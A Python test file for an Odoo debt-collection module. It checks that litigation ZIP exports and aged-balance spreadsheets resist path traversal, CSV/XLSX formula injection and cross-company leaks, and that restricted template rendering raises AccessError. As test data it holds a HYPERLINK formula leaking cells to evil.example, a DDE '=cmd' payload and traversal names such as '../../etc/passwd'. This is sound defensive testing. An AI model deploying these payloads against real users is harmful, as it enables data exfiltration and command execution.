"""Trust I: what the exports write and what the templates evaluate.

Litigation file (ZIP of PDFs and CSVs) and aged balance (XLSX): only the file's
company, archive members that stay in their folder, text cells that never run as
formulas. Batched template rendering: where Odoo renders in restricted mode, its
own checks apply and its AccessError reaches the user.
"""

import csv
import io
import re
import zipfile
from contextlib import contextmanager
from datetime import date
from unittest.mock import patch

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError

from .common import RelanceCase

MANAGER_GROUPS = ["relance_avancee.group_relance_manager", "account.group_account_invoice"]
COLLECTOR_GROUPS = ["relance_avancee.group_relance_user", "account.group_account_invoice"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COMMAND = "=cmd|' /C calc'!A0"
SAFE_MEMBER = re.compile(r"[A-Za-z0-9._-]+")


class TestLitigationExportTrust(RelanceCase):
    test_module = "relance_avancee_reports"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other_company = cls.setup_other_company()["company"]
        cls.manager = cls._create_relance_user("exports_manager", MANAGER_GROUPS)
        cls.manager.company_ids = [Command.link(cls.other_company.id)]
        names = [
            "../../etc/passwd",
            HYPERLINK,
            "..\\..\\boot.ini",
            "/etc/shadow",
            "INV 2026:7",
            "INV 2026?7",
        ]
        cls.invoices = cls.env["account.move"]
        for name in names:
            invoice = cls.make_invoice(cls.customer, "2026-01-31", 1000.0)
            invoice.name = name
            cls.invoices |= invoice
        cls.other_invoice = cls.make_invoice(
            cls.customer, "2026-01-31", 500.0, company=cls.other_company
        )
        cls.level = cls.standard_plan.level_ids.sorted("sequence")[0]
        cls.notice = cls._done_action(
            cls.company, cls.invoices[:1], "2026-03-02", "=1+2", b"%PDF notice of my company"
        )
        cls._done_action(
            cls.company, cls.invoices[1:2], "2026-03-05", "@SUM(A1:A9)", channel="phone"
        )
        cls.other_notice = cls._done_action(
            cls.other_company,
            cls.other_invoice,
            "2026-03-20",
            "Other company's note",
            b"%PDF notice of the other company",
        )
        cls.litigation = cls.env["relance.litigation"].create(
            {
                "partner_id": cls.customer.id,
                "company_id": cls.company.id,
                "move_ids": [Command.set(cls.invoices.ids)],
                "date_open": date(2026, 4, 1),
            }
        )

    @classmethod
    def _done_action(cls, company, invoices, day, note, document=None, channel="formal_notice"):
        """An action the engine carried out, with its document as the engine files it."""
        entry = (
            cls.env["relance.history"]
            .sudo()
            .create(
                {
                    "partner_id": cls.customer.id,
                    "company_id": company.id,
                    "move_ids": [Command.set(invoices.ids)],
                    "level_id": cls.level.id,
                    "channel": channel,
                    "date": day,
                    "state": "done",
                    "amount_due": sum(invoices.mapped("amount_residual")),
                    "note": f"<p>{note}</p>",
                }
            )
        )
        if document:
            entry.attachment_id = cls.env["ir.attachment"].create(
                {
                    "name": "notice.pdf",
                    "raw": document,
                    "res_model": entry._name,
                    "res_id": entry.id,
                    "company_id": company.id,
                }
            )
        return entry

    def _export(self):
        """The file as a manager working in both companies exports it."""
        companies = (self.company | self.other_company).ids
        litigation = self.litigation.with_user(self.manager).with_context(
            allowed_company_ids=companies
        )
        attachment = litigation.action_export_file()
        return zipfile.ZipFile(io.BytesIO(attachment.raw))

    @staticmethod
    def _csv(archive, name):
        return list(csv.DictReader(io.StringIO(archive.read(name).decode())))

    def test_only_the_files_company_goes_to_the_lawyer(self):
        archive = self._export()
        self.assertEqual(archive.read("03_formal_notice.pdf"), b"%PDF notice of my company")
        history = self._csv(archive, "04_reminders_and_calls.csv")
        # Positive control: the file's own actions are all there.
        self.assertEqual([row["date"] for row in history], ["2026-03-02", "2026-03-05"])
        self.assertNotIn("Other company", archive.read("04_reminders_and_calls.csv").decode())
        summary = archive.read("00_summary.txt").decode()
        self.assertIn("Formal notice: 2026-03-02", summary)
        self.assertNotIn("2026-03-20", summary)

    def test_archive_members_stay_in_their_folder_and_are_unique(self):
        names = self._export().namelist()
        self.assertEqual(len(names), len(set(names)))
        invoice_pdfs = [name for name in names if name.startswith("02_invoices/")]
        self.assertEqual(len(invoice_pdfs), len(self.invoices), "one PDF per invoice")
        for name in names:
            parts = name.split("/")
            self.assertTrue(all(SAFE_MEMBER.fullmatch(part) for part in parts), name)
            self.assertNotIn("..", parts, name)
            self.assertFalse(any(part.startswith(".") for part in parts), name)
        self.assertIn("02_invoices/INV_2026_7.pdf", names)
        self.assertIn("02_invoices/INV_2026_7_2.pdf", names)
        self.assertIn("02_invoices/-..-etc-passwd.pdf", names)
        self.assertIn("02_invoices/-etc-shadow.pdf", names)

    def test_csv_text_cells_never_run_as_formulas(self):
        archive = self._export()
        history = self._csv(archive, "04_reminders_and_calls.csv")
        self.assertEqual(history[0]["note"], "'=1+2")
        self.assertEqual(history[1]["note"], "'@SUM(A1:A9)")
        self.assertEqual(history[1]["invoices"], f"'{HYPERLINK}")
        self.assertEqual(history[0]["invoices"], "../../etc/passwd", "plain text is kept")
        self.assertEqual(history[0]["amount_due"], "1000.00", "figures stay figures")
        penalties = self._csv(archive, "05_penalty_computation.csv")
        cells = [value for row in penalties for value in row.values()]
        self.assertIn(f"'{HYPERLINK}", cells)
        for value in cells:
            self.assertFalse(value.startswith(("=", "+", "@", "\t", "\r")), value)
            if value.startswith("-"):
                float(value)  # only a negative figure may start with '-'

    def test_xlsx_names_are_text_not_formulas(self):
        self.customer.name = COMMAND
        report = (
            self.env["relance.aged.balance.report"]
            .with_user(self.manager)
            .create({"date": date(2026, 4, 1), "partner_ids": [Command.set(self.customer.ids)]})
        )
        sheet = openpyxl.load_workbook(io.BytesIO(report._xlsx_content())).active
        rows = [row for row in sheet.iter_rows() if row[1].value == HYPERLINK]
        self.assertEqual(len(rows), 1, "the invoice line, its name as it is")
        customer, invoice, _due, days = rows[0][:4]
        self.assertEqual((customer.value, customer.data_type), (COMMAND, "s"))
        self.assertEqual(invoice.data_type, "s")
        self.assertEqual(days.data_type, "n", "positive control: numbers stay numbers")
        formulas = [
            cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        ]
        self.assertEqual(formulas, [], "no formula anywhere in the workbook")


class TestRestrictedTemplateRendering(RelanceCase):
    """A run renders its templates in batches; where Odoo would render in restricted
    mode (a user who is not a template editor, on a renderer that restricts), Odoo's
    own rendering runs: the unsafe expression is never evaluated, and Odoo's
    AccessError reaches the user."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # Employees are not template editors (Settings > Restrict Template Rendering).
        cls.env["ir.config_parameter"].set_param("mail.restrict.template.rendering", True)
        cls.editor = cls._create_relance_user(
            "template_editor", [*COLLECTOR_GROUPS, "mail.group_mail_template_editor"]
        )
        cls.template = cls.env["mail.template"].create(
            {
                "name": "Probe",
                "model_id": cls.env["ir.model"]._get_id("relance.history"),
                "subject": "Reminder",
                "body_html": '<p>Dear customer, <t t-out="object._trust_probe()"/></p>',
            }
        )
        level = cls.standard_plan.level_ids.sorted("sequence")[0]
        cls.entries = cls.env["relance.history"].create(
            [
                {
                    "partner_id": cls.customer.id,
                    "level_id": level.id,
                    "channel": "email",
                    "date": date(2026, 2, 1),
                    "amount_due": amount,
                }
                for amount in (100.0, 200.0)
            ]
        )

    @contextmanager
    def _probe(self):
        """Record each evaluation of ``object._trust_probe()``."""
        calls = []

        def probe(record):
            calls.append(record.id)
            return "probed"

        history_class = type(self.env["relance.history"])
        with patch.object(history_class, "_trust_probe", probe, create=True):
            yield calls

    @contextmanager
    def _restricted_renderer(self):
        """A renderer on which Odoo restricts non-editors (``mail.template`` is not:
        only editors may write unsafe expressions into one)."""
        field = self.env["mail.template"]._fields["body_html"]
        before = dict(field.render_options)
        try:
            with patch.object(type(self.env["mail.template"]), "_unrestricted_rendering", False):
                yield
        finally:
            after = dict(field.render_options)
            field.render_options.clear()
            field.render_options.update(before)
        self.assertEqual(after, before, "the field's rendering options are left as they were")

    def _render(self, user):
        template = self.template.with_user(user)
        rendered = template._generate_template(self.entries.ids, ["body_html"])
        return {entry_id: str(values["body_html"]) for entry_id, values in rendered.items()}

    def test_restricted_rendering_keeps_odoos_access_error(self):
        self.assertFalse(self.collector.has_group("mail.group_mail_template_editor"))
        group = self.env.ref("mail.group_mail_template_editor")
        with self._restricted_renderer(), self._probe() as calls:
            with self.assertRaisesRegex(AccessError, f"Only members of {group.name}"):
                self._render(self.collector)
            self.assertEqual(calls, [], "the unsafe expression was never evaluated")
            # Positive control: a template editor renders the same batch.
            rendered = self._render(self.editor)
            self.assertEqual(sorted(calls), sorted(self.entries.ids))
            for entry in self.entries:
                self.assertIn("Dear customer, probed", rendered[entry.id])

    def test_engine_and_unrestricted_renderers_render_the_batch(self):
        with self._probe() as calls:
            for user in (self.env.ref("base.user_root"), self.collector):
                rendered = self._render(user)
                self.assertEqual(set(rendered), set(self.entries.ids))
                self.assertTrue(all("probed" in body for body in rendered.values()))
            self.assertEqual(len(calls), 4)

    def test_collector_sends_the_dunning_templates_through_the_normal_path(self):
        """Control: a template is master data only editors may fill with expressions;
        a collector who is not an editor still validates the planned reminders (Odoo
        renders a stored template the same way for any user)."""
        other = self.customer.copy({"name": "Durand SA", "email": "compta@durand.example.com"})
        for partner in (self.customer, other):
            self.make_invoice(partner, "2026-01-31", 500.0)
        run = self.env["relance.run"]._get_or_create(self.company, date(2026, 2, 1))
        run._plan()
        planned = run.history_ids
        self.assertEqual(len(planned), 2)
        self.assertEqual(set(planned.mapped("channel")), {"email"})
        with self.mock_mail_gateway():
            planned.with_user(self.collector).action_validate()
        self.assertEqual(set(planned.mapped("state")), {"done"}, planned.mapped("error"))
        for entry in planned:
            self.assertIn(entry.move_ids.name, str(entry.message_id.body))
